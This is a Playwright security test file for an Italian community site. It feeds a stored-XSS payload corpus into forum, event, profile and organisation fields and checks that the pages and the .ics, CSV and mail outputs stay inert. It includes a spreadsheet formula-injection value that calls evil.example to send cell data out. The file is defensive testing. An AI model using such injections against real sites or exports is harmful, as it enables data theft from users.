import fs from 'node:fs'
import path from 'node:path'
import { expect, test, type Page } from '@playwright/test'
import { parse as parseCsv } from 'csv-parse/sync'
import { createUser, parseIcs, signIn } from './helpers'

// Issue 12: stored XSS in a real browser. The shared corpus goes into the fields that show member text — post
// bodies (the whole corpus), thread titles and tags, a meeting's title, description and place, a member's name —
// and every page that shows them is opened in Chromium with the Content-Security-Policy bypassed, so that the
// sanitiser alone must hold: no dialog, no script of the payloads, no on* attribute, no javascript:/data: URL.

const dir = path.resolve('../shared/security/xss-payloads')
const corpus = fs.existsSync(dir)
  ? fs
      .readdirSync(dir)
      .filter((f) => f.endsWith('.txt'))
      .flatMap((f) => fs.readFileSync(path.join(dir, f), 'utf8').split('\n'))
      .map((l) => l.trim())
      .filter(Boolean)
  : []
/** Payloads with control characters are refused at input (with a message); the others are stored and shown. */
const storable = corpus.filter((p) => !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/.test(p))
/** Payloads that fit on one line of a title (≤ 140 characters). */
const short = storable.filter((p) => p.length <= 140 && !/[\u0000-\u001f\u007f]/.test(p))
const pick = (n: number, from: number) => Array.from({ length: n }, (_, i) => short[(from + i * 37) % short.length]!)
/** The corpus in bodies of at most ~18,000 characters, one payload a paragraph. */
function chunks(): string[] {
  const out: string[] = ['']
  for (const p of storable) {
    if (out.at(-1)!.length + p.length > 18_000) out.push('')
    out[out.length - 1] += `${p}\n\n`
  }
  return out
}

const pagesChecked: string[] = []
async function expectInert(page: Page, url: string) {
  await page.goto(url)
  await page.waitForLoadState('networkidle')
  const found = await page.evaluate(() => {
    const bad: string[] = []
    for (const s of Array.from(document.querySelectorAll('script'))) {
      const src = s.getAttribute('src') ?? ''
      const inline = s.textContent ?? ''
      // Next's own: its files, its inline payload and bootstrap; and the pages' JSON-LD (data, never run).
      const ours =
        src.startsWith('/_next/') ||
        /^\(?self\.__next_f/.test(inline) ||
        inline.startsWith('(globalThis["TURBOPACK"]') ||
        s.type === 'application/ld+json'
      if (!ours) bad.push(`script: ${src || inline.slice(0, 60)}`)
    }
    for (const el of Array.from(document.querySelectorAll('main *'))) {
      for (const a of Array.from(el.attributes)) {
        if (/^on/i.test(a.name)) bad.push(`${el.tagName} ${a.name}`)
        if (
          ['href', 'src', 'action', 'formaction', 'xlink:href', 'data'].includes(a.name) &&
          /^\s*(javascript|data|vbscript):/i.test(a.value)
        )
          bad.push(`${el.tagName} ${a.name}=${a.value.slice(0, 40)}`)
      }
      if (['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'META'].includes(el.tagName)) bad.push(el.tagName)
    }
    // JSON-LD is data: a payload with </script> must not end it early (each block parses whole).
    for (const s of Array.from(document.querySelectorAll('script[type="application/ld+json"]'))) {
      try {
        JSON.parse(s.textContent ?? '')
      } catch {
        bad.push(`JSON-LD does not parse: ${(s.textContent ?? '').slice(0, 60)}`)
      }
    }
    return bad
  })
  expect(found, url).toEqual([])
  pagesChecked.push(url)
}

test('the XSS corpus stays inert wherever members can write it', async ({ browser }) => {
  test.setTimeout(240_000)
  expect(corpus.length, 'the shared corpus').toBeGreaterThan(500)
  const context = await browser.newContext({ bypassCSP: true })
  const page = await context.newPage()
  const dialogs: string[] = []
  page.on('dialog', (d) => {
    dialogs.push(d.message())
    void d.dismiss()
  })
  const organiser = createUser({ role: 'ORGANISER' })
  await signIn(page, organiser.email, organiser.password)

  // A member's name (shown next to every post and on their profile).
  await page.goto('/profilo')
  const hostileName = short.find((p) => p.length <= 100 && /<|on\w+=/i.test(p))!
  await page.getByLabel('Nome e cognome').fill(hostileName)
  await page.getByRole('button', { name: 'Salva' }).click()
  await expect(page.getByRole('status').first()).toBeVisible()

  // A thread whose title and tags are payloads, and the whole corpus in its posts.
  const bodies = chunks()
  const titles = pick(3, 5)
  let threadUrl = ''
  for (const [i, title] of titles.entries()) {
    await page.goto('/forum/nuova-discussione')
    await page.getByLabel('Categoria', { exact: true }).selectOption({ index: 1 })
    await page.getByLabel('Titolo').fill(`${i} ${title}`.padEnd(8, '.'))
    await page.getByLabel('Etichette').fill('xss, prova')
    await page.getByRole('textbox', { name: 'Testo (Markdown)' }).fill(i === 0 ? bodies[0]! : `Payload ${i}: ${title}`)
    await page.getByRole('button', { name: 'Pubblica la discussione' }).click()
    await expect(page).toHaveURL(/\/forum\/t\//)
    if (i === 0) threadUrl = new URL(page.url()).pathname
  }
  for (const body of bodies.slice(1)) {
    await page.goto(threadUrl)
    const before = await page.locator('main article').count()
    await page.locator('#reply-body').fill(body)
    await page.getByRole('button', { name: 'Pubblica la risposta' }).click()
    await expect(page.locator('main article')).toHaveCount(before + 1)
  }

  // A meeting whose title, description and place are payloads.
  const [eventTitle, eventPlace] = pick(2, 11)
  await page.goto('/eventi/nuovo')
  await page.getByLabel('Titolo').fill(eventTitle!)
  await page.getByLabel('Tipo').selectOption({ label: 'Plenaria' })
  await page.getByRole('textbox', { name: 'Descrizione (Markdown)' }).fill(bodies[0]!)
  await page.getByLabel('Inizio (ora di Roma)').fill('2027-10-01T10:00')
  await page.getByLabel('Fine (ora di Roma)').fill('2027-10-01T12:00')
  await page.getByLabel('Indirizzo').fill(eventPlace!.slice(0, 200))
  await page.getByRole('button', { name: "Pubblica l'evento" }).click()
  await expect(page).toHaveURL(/\/eventi\/(?!nuovo$)[a-z0-9]+$/)
  const eventUrl = new URL(page.url()).pathname

  const handle = await page.getByTestId('account-link').getAttribute('href')
  for (const url of [
    threadUrl,
    '/forum',
    eventUrl,
    '/eventi',
    '/eventi?view=month&month=2027-10',
    '/notifiche',
    '/profilo',
    `/cerca?q=xss`,
    handle ?? '/',
  ]) {
    await expectInert(page, url)
  }
  // The same pages, read by someone else (anonymous).
  const anon = await (await browser.newContext({ bypassCSP: true })).newPage()
  anon.on('dialog', (d) => {
    dialogs.push(d.message())
    void d.dismiss()
  })
  for (const url of [threadUrl, '/forum', eventUrl, '/eventi']) await expectInert(anon, url)
  expect(dialogs).toEqual([])
  console.log(
    `xss: ${storable.length} of ${corpus.length} payloads stored (the rest refused at input for control characters), ${short.length} fit a title; ` +
      `fields: post bodies, thread titles and tags, meeting title/description/place, member name; ${pagesChecked.length} page views checked`,
  )
})

test('practices, organisation names, material titles and the files made from member text stay inert', async ({ browser }) => {
  test.setTimeout(240_000)
  const dialogs: string[] = []
  let confirmExpected = false
  async function as(email?: string, password?: string) {
    const page = await (await browser.newContext({ bypassCSP: true })).newPage()
    page.on('dialog', (d) => {
      if (confirmExpected && d.type() === 'confirm') return void d.accept()
      dialogs.push(d.message())
      void d.dismiss()
    })
    if (email) await signIn(page, email, password!)
    return page
  }
  const tag = Date.now().toString(36)
  // A member whose name is a spreadsheet formula (it reaches the organiser's attendee list).
  const formula = `=HYPERLINK("http://evil.example/?x="&A1,"Clicca ${tag}")`
  const author = createUser({ name: formula })
  const me = await as(author.email, author.password)
  const bodies = chunks()
  const [practiceTitle, summary, resultLabel, orgName, eventTitle, materialTitle] = pick(6, 23)
  const unit = short.find((p) => p.length <= 30 && /</.test(p))!

  // 1. A good practice whose every text field is a payload, submitted and published by a moderator.
  await me.goto('/buone-pratiche/nuova')
  await me.getByLabel('Titolo').fill(`${tag} ${practiceTitle}`.slice(0, 150))
  await me.getByLabel('Sintesi').fill(`${summary} — sintesi di prova della pratica`)
  await me.getByRole('textbox', { name: 'Testo (Markdown)' }).fill(bodies.at(-1)!.padEnd(60, '.'))
  await me.getByLabel('EMAS').check()
  await me.getByLabel('Tema').selectOption({ label: 'Acqua' })
  await me.getByLabel('Regione').selectOption({ label: 'Toscana' })
  await me.getByLabel('Risultato 1: che cosa').fill(resultLabel!.slice(0, 120))
  await me.getByLabel('Risultato 1: cifra').fill('3,5')
  await me.getByLabel('Risultato 1: unità').fill(unit)
  await me.getByRole('button', { name: 'Invia alla revisione' }).click()
  await expect(me.getByRole('status')).toContainText('in revisione')
  const practiceUrl = new URL(me.url()).pathname
  const moderator = createUser({ role: 'MODERATOR' })
  const mod = await as(moderator.email, moderator.password)
  await expectInert(mod, practiceUrl)
  await mod.getByTestId('review-panel').getByRole('button', { name: 'Pubblica' }).click()
  await expect(mod.getByTestId('review-panel')).toHaveCount(0)

  // 2. An organisation whose name is a payload: applied for, then approved by an admin.
  await me.goto('/rete/aderisci')
  const form = me.getByRole('form', { name: 'Nuova domanda di adesione' })
  const hostileOrg = `${tag} ${orgName}`.slice(0, 200)
  await form.getByLabel('Nome dell’organizzazione').fill(hostileOrg)
  await form.getByLabel('Tipo', { exact: true }).selectOption({ label: 'PMI' })
  await form.getByLabel('Partita IVA', { exact: true }).fill('00743110157')
  await form.getByLabel('Regione', { exact: true }).selectOption({ label: 'Toscana' })
  await form.getByLabel('Provincia', { exact: true }).fill('Prato')
  await form.getByLabel('Settore', { exact: true }).fill('Tessile')
  await form.getByLabel('Nome e cognome').fill('Luca Verdi')
  await form.getByLabel('Ruolo nell’organizzazione').fill('Amministratore')
  await form.getByRole('checkbox', { name: /^1\. / }).check()
  await form.getByLabel('Dichiaro di avere i poteri').check()
  await form.getByRole('button', { name: 'Invia la domanda' }).click()
  await expect(me.getByTestId('my-adhesions')).toContainText('Inviata, in esame')
  const adminUser = createUser({ role: 'ADMIN' })
  const admin = await as(adminUser.email, adminUser.password)
  await expectInert(admin, '/admin/adesioni')
  const adhesionUrl = (await admin.getByTestId('adhesions-open').getByRole('link', { name: hostileOrg }).getAttribute('href'))!
  await expectInert(admin, adhesionUrl)
  await admin.getByRole('button', { name: 'Approva' }).click()
  const orgLink = admin.getByRole('link', { name: 'Vedi l’organizzazione nel registro' })
  await expect(orgLink).toBeVisible()
  const orgUrl = (await orgLink.getAttribute('href'))!

  // 3. A meeting with a payload title and a material whose title is a payload; the formula-named member registers.
  const organiser = createUser({ role: 'ORGANISER' })
  const org = await as(organiser.email, organiser.password)
  await org.goto('/eventi/nuovo')
  const hostileEvent = `${eventTitle}`.padEnd(3, '.').slice(0, 150)
  await org.getByLabel('Titolo').fill(hostileEvent)
  await org.getByLabel('Tipo').selectOption({ label: 'Plenaria' })
  await org.getByRole('textbox', { name: 'Descrizione (Markdown)' }).fill('Ordine del giorno')
  await org.getByLabel('Inizio (ora di Roma)').fill('2027-11-02T10:00')
  await org.getByLabel('Fine (ora di Roma)').fill('2027-11-02T12:00')
  await org.getByLabel('Indirizzo').fill('Sala consiliare')
  await org.getByRole('button', { name: "Pubblica l'evento" }).click()
  await expect(org).toHaveURL(/\/eventi\/(?!nuovo$)[a-z0-9]+$/)
  const eventUrl = new URL(org.url()).pathname
  const eventId = eventUrl.split('/').at(-1)!
  const materials = org.getByRole('form', { name: 'Aggiungi un verbale o un materiale' })
  await materials.getByLabel('Tipo').selectOption({ label: 'Presentazione' })
  await materials.getByLabel('Titolo').fill(materialTitle!.slice(0, 150))
  await materials.getByLabel('Link (https://…)').fill('https://example.org/slide')
  await materials.getByRole('button', { name: 'Aggiungi' }).click()
  await expect(org.getByText('Materiale aggiunto.')).toBeVisible()
  await me.goto(eventUrl)
  await me.getByRole('button', { name: 'Iscriviti' }).click()
  await expect(me.getByRole('button', { name: "Annulla l'iscrizione" })).toBeVisible()

  // Every page that shows these fields, signed in and anonymous.
  const anon = await as()
  for (const [page, url] of [
    [me, practiceUrl],
    [me, '/buone-pratiche/mie'],
    [me, eventUrl],
    [me, '/profilo'],
    [org, eventUrl],
    [admin, orgUrl],
    [anon, practiceUrl],
    [anon, '/buone-pratiche'],
    [anon, '/buone-pratiche?q=xss'],
    [anon, '/territori/toscana'],
    [anon, '/rete/aderenti'],
    [anon, orgUrl],
    [anon, eventUrl],
    [anon, '/eventi'],
    [anon, `/cerca?q=${tag}`],
  ] as const)
    await expectInert(page, url)

  // The files made from member text. iCalendar: one event, its title intact (no injected lines).
  const ics = await (await anon.request.get(`/feeds/events/${eventId}.ics`)).text()
  const vevents = parseIcs(ics).getAllSubcomponents('vevent')
  expect(vevents).toHaveLength(1)
  expect(vevents[0]!.getFirstPropertyValue('summary')).toBe(hostileEvent)
  // The attendee CSV: no cell a spreadsheet would run as a formula; the name is still readable.
  const csv = await (await org.request.get(`/feeds/events/${eventId}.csv`)).text()
  const cells = (parseCsv(csv.replace(/^\uFEFF/, ''), { delimiter: ';' }) as string[][]).flat()
  expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([])
  expect(cells).toContain(`'${formula}`)
  // E-mail: cancelling tells the attendee; the mail's subject is one line and the outbox page is inert.
  await org.goto(eventUrl)
  confirmExpected = true
  await org.getByRole('button', { name: "Annulla l'evento" }).click()
  await expect(org.getByText('Questo evento è stato annullato.')).toBeVisible()
  confirmExpected = false
  await expectInert(admin, '/admin/posta')
  const mail = admin.locator('article', { has: admin.getByTestId('mail-to').getByText(author.email, { exact: true }) }).first()
  await expect(mail).toContainText(hostileEvent)
  expect(dialogs).toEqual([])
  console.log(
    `xss: practice title/summary/body/result, organisation name, material title, member name; ${pagesChecked.length} page views checked in all; .ics, CSV and mail checked`,
  )
})
